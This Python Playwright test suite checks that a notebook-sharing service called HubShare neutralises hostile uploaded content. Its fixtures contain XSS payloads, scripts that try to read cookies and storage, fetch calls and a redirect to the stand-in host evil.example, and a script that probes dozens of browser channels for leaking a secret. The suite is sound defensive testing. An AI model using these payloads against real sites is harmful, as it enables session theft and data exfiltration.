"""Hostile content in a real browser: it runs nothing with the Hub's origin, reads no cookie, and reaches nobody."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from playwright.sync_api import Page, expect

from demo.stack import LocalStack
from hubshare.testing.centre import wait_until
from tests.helpers.browsers import Browsers, Person, shown
from tests.helpers.hostile_content import PAYLOADS, SVG, code, notebook_of, text
from tests.helpers.rendering import display
from tests.helpers.sample import code_cell, markdown_cell, notebook, output, ran, write
from tests.helpers.sinks import Sinks

PROJECT = "alice/hostile"
NAME = "<img src=x onerror=alert(1)>.md"
README = "# Hostile\n\n<script>document.title = 'taken'</script>\n\n" + "\n\n".join(PAYLOADS[:40])

#: What a script tries; it writes into the page what came of it.
TRIES = """
<pre id="came"></pre>
<script>
const came = {origin: self.origin};
const say = () => { document.getElementById("came").textContent = JSON.stringify(came); };
const attempt = (name, act) => { try { came[name] = "got " + act(); } catch (error) { came[name] = error.name; } };
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("parent", () => parent.document.title);
if (parent !== self) attempt("top", () => { top.location.href = "/hub/logout"; });
attempt("dialog", () => alert(1));
attempt("window", () => String(open("/hub/home")));
const image = new Image();
image.onerror = () => { came.image = "failed"; say(); };
image.onload = () => { came.image = "got it"; say(); };
image.src = "/hub/logo";
const fetched = (name, address) => fetch(address, {credentials: "include"}).then(
  (answer) => { came[name] = "got " + answer.status; say(); }, (error) => { came[name] = error.name; say(); });
Promise.all([fetched("fetch", "/services/hubshare/api/v1/me"), fetched("elsewhere", "https://evil.example/")])
  .then(() => { came.done = "yes"; say(); });
</script>
"""


#: Every way to the network that a document may have; the ports are listened on.
WAYS = """
<button id="all-tried" onclick="location.href = at('navigation')"></button>
<script>
const ports = PORTS, at = (name, scheme = "http") => `${scheme}://127.0.0.1:${ports[name]}/${name}?secret`;
const way = (act) => { try { act(); } catch (error) { console.debug(String(error)); } };
const head = (tag, attributes, inside = "") => {
  const made = document.createElement(tag);
  Object.entries(attributes).forEach(([name, value]) => made.setAttribute(name, value));
  made.textContent = inside;
  document.head.append(made);
};
way(() => {
  const turn = {urls: `turn:127.0.0.1:${ports.turn}?transport=tcp`, username: "secret", credential: "x"};
  const peer = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${ports.stun}`}, turn]});
  peer.createDataChannel("x");
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
});
for (const name of ["preconnect", "prefetch", "prerender", "modulepreload", "manifest", "icon", "stylesheet"]) {
  way(() => head("link", {rel: name, href: at(name), as: "script"}));
}
const rules = {source: "list", urls: [at("speculation")]};
way(() => head("script", {type: "speculationrules"}, JSON.stringify({prefetch: [rules], prerender: [rules]})));
way(() => { new Image().src = at("image"); });
way(() => { new WebSocket(at("socket", "ws")); });
way(() => { new EventSource(at("events")); });
way(() => { new WebTransport(at("transport", "https")); });
way(() => { new Worker(at("worker")); });
way(() => { navigator.sendBeacon(at("beacon"), "secret"); });
way(() => { fetch(at("fetch"), {mode: "no-cors"}).catch(() => 0); });
way(() => { fetch(at("keepalive"), {mode: "no-cors", keepalive: true}).catch(() => 0); });
way(() => { new FontFace("x", `url(${at("font")})`).load().catch(() => 0); });
way(() => { new Audio(at("audio")).load(); });
const body = (html) => document.body.insertAdjacentHTML("beforeend", html);
way(() => { body(`<object data="${at("object")}"></object><embed src="${at("embed")}">`); });
way(() => { body(`<svg><image href="${at("svg")}"/></svg><video poster="${at("poster")}">`); });
way(() => { body(`<iframe src="${at("frame")}"></iframe>`); });
way(() => {
  const inner = document.createElement("iframe");
  document.body.append(inner);
  const peer = new inner.contentWindow.RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${ports.stun}`}]});
  peer.createDataChannel("x");
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
});
way(() => {
  body(`<a id="pinged" href="#x" ping="${at("ping")}">x</a>`);
  document.getElementById("pinged").click();
});
way(() => {
  body(`<form id="sent" method="post" action="${at("form")}" target="_blank"></form>`);
  document.getElementById("sent").submit();
});
way(() => { open(at("window")); });
way(() => { fetchLater(at("later"), {activateAfter: 0}); });
way(() => { import(at("import")).catch(() => 0); });
way(() => { body(`<script src="${at("script")}"><\\/script>`); head("script", {src: at("script"), type: "module"}); });
const sheet = `@import url(${at("css")}); body { cursor: url(${at("css")}), auto; background: url(${at("css")}) }`;
way(() => { head("style", {}, sheet); });
way(() => { body(`<svg><use href="${at("use")}#x"/><filter id="f"><feImage href="${at("use")}"/></filter></svg>`); });
way(() => { body(`<input type="image" src="${at("input")}"><video><track default src="${at("input")}"></video>`); });
const within = `<img src="${at("srcdoc")}"><script>fetch("${at("srcdoc")}").catch(() => 0)<\\/script>`;
way(() => { body(`<iframe srcdoc='${within}'></iframe>`); });
way(() => { body(`<iframe src='data:text/html,<img src="${at("data")}">'></iframe>`); });
way(() => {
  const inside = `fetch("${at("blob")}").catch(() => 0); try { importScripts("${at("blob")}") } catch (error) { close() }`;
  new Worker(URL.createObjectURL(new Blob([inside], {type: "text/javascript"})));
});
way(() => {
  const price = {total: {label: "x", amount: {currency: "EUR", value: "1"}}};
  new PaymentRequest([{supportedMethods: at("payment")}], price).canMakePayment().catch(() => 0);
});
way(() => {
  const providers = [{configURL: at("identity"), clientId: "x"}];
  navigator.credentials.get({identity: {providers}}).catch(() => 0);
});
way(() => { document.documentElement.style.setProperty("border-image", `url(${at("border")}) 1`); });
// What would have been on its way is there by then: answers of this machine come at once.
Promise.all([at("last"), at("last")].map((address) => fetch(address).catch(() => 0))).then(() => setTimeout(
  () => { document.getElementById("all-tried").textContent = "all tried"; }, 500));
</script>
"""
#: What a browser says of the drawing of another site, and of paying, when it lets a document have neither.
_REFUSALS = ("Unsafe attempt to load URL", "Permissions policy violation: payment")
_DATAGRAMS = ("stun", "transport")
_STREAMS = (
    *("turn", "preconnect", "prefetch", "prerender", "modulepreload", "manifest", "icon", "stylesheet", "speculation"),
    *("image", "socket", "events", "worker", "beacon", "fetch", "keepalive", "font", "audio", "object", "embed", "svg"),
    *(
        "poster",
        "frame",
        "ping",
        "form",
        "window",
        "last",
        "navigation",
        "later",
        "import",
        "script",
        "css",
        "use",
        "input",
    ),
    *("srcdoc", "data", "blob", "payment", "identity", "border"),
)


def ways(sinks: Sinks) -> str:
    """A document that tries to reach them all."""
    return WAYS.replace("PORTS", json.dumps(sinks.ports))


@pytest.fixture(scope="module")
def all_sinks() -> Iterator[Sinks]:
    made = Sinks(_STREAMS, _DATAGRAMS)
    yield made
    made.close()


@pytest.fixture
def sinks(all_sinks: Sinks) -> Sinks:
    """Nobody has reached any."""
    all_sinks.reached.clear()
    return all_sinks


def in_all_places(evil: str) -> list[dict[str, Any]]:
    """Cells with the payload wherever a page might show it."""
    error = {"output_type": "error", "ename": evil, "evalue": evil, "traceback": [evil]}
    widget = {"application__vnd.jupyter.widget-view+json": {"model_id": evil}}
    return [
        text(evil),
        text(evil, metadata={"raw_mimetype": "text/html"}) | {"cell_type": "raw"},
        text("![x](attachment:a)", attachments={"a": {evil: "AAAA", "text/html": evil}}),
        code(
            display(text__html=evil),
            display(**{"image__svg+xml": evil}),
            display(application__javascript=evil, text__plain=evil),
            display(text__latex=evil),
            display(text__markdown=evil),
            display(application__json={evil: evil}),
            display(**widget),
            display(**{evil: evil, "text__plain": "x"}),
            error,
            source=evil,
        ),
    ]


@pytest.fixture(scope="module")
def hostile(stack: LocalStack, all_sinks: Sinks) -> LocalStack:
    """A project of which every file is an attack, in two versions."""
    folder = stack.home("alice") / "hostile"
    cells = [cell for evil in PAYLOADS for cell in in_all_places(evil)]
    evil = "</script><script>alert(1)</script>"
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": {evil: {"state": {"value": evil}}}}}
    metadata = {"title": evil, "language_info": {"name": evil, "pygments_lexer": evil}, "widgets": widgets}
    everything = "\n\n".join(PAYLOADS)
    files = {
        "README.md": README.encode(),
        "all.ipynb": notebook_of(*cells, **metadata),
        "all.md": everything.encode(),
        NAME: everything.encode(),
        "page.html": f"<!doctype html><title>x</title>{TRIES}{everything}".encode(),
        "image.svg": SVG.encode(),
        "all.json": json.dumps({evil: [evil, *PAYLOADS]}).encode(),
        "all.csv": "\n".join(f'"{one.replace(chr(34), chr(34) * 2)}",1' for one in PAYLOADS).encode(),
        "live.ipynb": notebook(
            markdown_cell("# Live"),
            code_cell("show()", output(text__html=TRIES, text__plain="x")),
            code_cell(
                "run()", output(application__javascript="alert(1); fetch('https://evil.example/').catch(() => 0)")
            ),
        ),
        "all-ways.ipynb": notebook(code_cell("try()", output(text__html=ways(all_sinks), text__plain="x"))),
        "away.ipynb": notebook(
            code_cell("go()", output(text__html="<b>here</b><script>location.href = 'https://evil.example/'</script>"))
        ),
    }
    write(folder, files)
    ran(stack, "alice", "share", folder, "--with", "bob:reader")
    write(folder, {name: content.replace(b"alert(1)", b"alert(2)") for name, content in files.items()})
    ran(stack, "alice", "push", folder)
    return stack


@pytest.fixture
def bob(browsers: Browsers, hostile: LocalStack) -> Person:
    """Who looks at it all."""
    return browsers("bob")


def harmless(page: Page) -> None:
    """The page is ours still, in what it says and in what it knows."""
    assert page.title().endswith("HubShare")
    expect(page.locator("#signed-in-user")).to_have_text("bob")
    assert page.evaluate(
        "[...document.scripts].every((one) => one.nonce && new URL(one.src).pathname.startsWith('/services/hubshare/static/'))"
    ), "a script was added"
    # No formula holds others up.
    expect(page.locator(".hs-math")).to_have_count(0)
    assert not page.evaluate(
        "[...document.querySelectorAll('main *')].some((one) => [...one.attributes]"
        ".some((attribute) => attribute.name.startsWith('on')))"
    ), "an element acts"
    assert "hubshare-session" not in page.evaluate("document.cookie")


@pytest.mark.parametrize(
    "path", ["README.md", "all.ipynb", "all.md", NAME, "page.html", "image.svg", "all.json", "all.csv"]
)
def test_what_is_shown_is_harmless(browsers: Browsers, hostile: LocalStack, path: str) -> None:
    bob = browsers.again("bob")
    bob.page.goto(f"projects/{PROJECT}")
    bob.page.get_by_role("table").get_by_role("link", name=path, exact=True).click()
    shown(bob)
    harmless(bob.page)
    if path != "page.html" and not path.endswith("svg"):
        bob.page.goto(f"{bob.page.url}?view=source")
        shown(bob)
        harmless(bob.page)


def test_lists_history_and_differences_are_harmless(bob: Person) -> None:
    bob.go(f"projects/{PROJECT}")
    shown(bob, "#readme")
    harmless(bob.page)
    for path in ("history", f"search?q={NAME}", f"projects/{PROJECT}/history"):
        bob.go(path)
        assert "onerror" not in bob.page.evaluate("[...document.images].map((one) => one.outerHTML).join()")
    bob.go(f"projects/{PROJECT}/versions/2")
    for region in bob.page.get_by_role("region").all()[1:]:
        region.scroll_into_view_if_needed()
        expect(region.locator("[hx-get] > *:not(.hs-skeleton)").first).to_be_visible()
    harmless(bob.page)


@pytest.mark.parametrize("path", ["page.html", "image.svg", "all.md"])
def test_raw_files_run_nothing(bob: Person, path: str) -> None:
    bob.go(f"projects/{PROJECT}/raw/latest/{path}")
    assert bob.page.evaluate("self.origin") == "null"
    assert not bob.page.locator("#came").count(), "it was taken for a page"


def test_scripts_of_a_live_notebook_reach_nothing(bob: Person) -> None:
    bob.go(f"projects/{PROJECT}/files/latest/live.ipynb?view=live")
    live = bob.page.frame_locator("#live").locator("#came")
    expect(live).to_contain_text('"done"')
    expect(live).to_contain_text('"image"')
    came = json.loads(live.text_content() or "")
    assert came.pop("origin") == "null"
    assert came.pop("done") == "yes"
    wrong = {
        name: how for name, how in came.items() if how.startswith("got") and how not in ("got null", "got undefined")
    }
    assert not wrong
    assert came["cookie"] == came["storage"] == "SecurityError"
    assert came["fetch"] == came["elsewhere"] == "TypeError"
    assert "/hub/log" not in bob.page.url
    assert len(bob.context.pages) == 1
    assert bob.refused, "the browser says what it did not let it do"


def test_scripts_of_a_live_notebook_reach_nobody_by_any_way_that_a_browser_has(bob: Person, sinks: Sinks) -> None:
    bob.go(f"projects/{PROJECT}/files/latest/all-ways.ipynb")
    shown(bob)
    expect(bob.page.locator("#not-alone")).to_have_count(0)
    bob.page.get_by_role("link", name="Run scripts").click()
    expect(bob.page.frame_locator("#live").locator("#all-tried")).to_have_text("all tried")
    # The last of the ways: the frame goes elsewhere, and does not come to be there.
    with bob.context.expect_event(
        "console", lambda message: "frame-src" in message.text or "Allowlist" in message.text
    ):
        bob.page.frame_locator("#live").locator("#all-tried").click()
    assert not sinks.reached
    # It was asked for, and the browser has let none of it out.
    bob.requested.clear()
    bob.troubles[:] = [one for one in bob.troubles if not one.startswith(_REFUSALS)]


def test_the_ways_are_ways(bob: Person, sinks: Sinks) -> None:
    """Where nothing keeps it from that, the same script reaches all: so the test above can fail."""
    assert bob.context.browser
    context = bob.context.browser.new_context()
    page = context.new_page()
    page.route("http://127.0.0.1/", lambda route: route.fulfill(body=ways(sinks), content_type="text/html"))
    page.goto("http://127.0.0.1/")
    wanted = {"stun", "turn", "socket", "image", "fetch", "beacon", "frame", "stylesheet"}
    wanted |= {"import", "script", "css", "input", "srcdoc", "data", "blob"}
    wait_until(lambda: wanted <= sinks.reached, "all are reached")
    page.locator("#all-tried").click()
    wait_until(lambda: "navigation" in sinks.reached, "the frame has gone elsewhere")
    context.close()


@pytest.mark.parametrize("told", [True, False], ids=["by a browser that says so", "by any other"])
def test_a_live_notebook_runs_nothing_when_it_is_opened_by_itself(bob: Person, told: bool, hostile: LocalStack) -> None:
    address = f"projects/{PROJECT}/live/latest/live.ipynb"
    bob.go(f"projects/{PROJECT}/files/latest/live.ipynb?view=live")
    expect(bob.page.frame_locator("#live").locator("#came")).to_contain_text('"done"')
    if told:
        bob.go(address)
        assert bob.page.url.endswith("/files/latest/live.ipynb?view=live")
        return
    # What such a browser gets, as the service sends it.
    cookies = {one["name"]: one["value"] for one in bob.context.cookies(hostile.service_url)}
    answer = httpx.get(hostile.service_url + address, cookies=cookies)
    assert 'id="came"' in answer.text
    kept = {name: answer.headers[name] for name in ("content-type", "content-security-policy", "connection-allowlist")}
    bob.page.route(f"**/{address}", lambda route: route.fulfill(body=answer.text, headers=kept))
    before = len(bob.refused)
    bob.page.goto(hostile.service_url + address, wait_until="commit")
    assert bob.page.url.endswith(address)
    wait_until(lambda: bob.page.evaluate("document.documentElement === null"), "it has taken itself away")
    assert len(bob.refused) == before, "a script has tried something"


def test_a_live_notebook_takes_its_frame_nowhere_else(bob: Person) -> None:
    bob.go(f"projects/{PROJECT}/files/latest/away.ipynb?view=live")
    with bob.context.expect_event("console", lambda message: "frame-src" in message.text):
        bob.page.reload()
    harmless(bob.page)
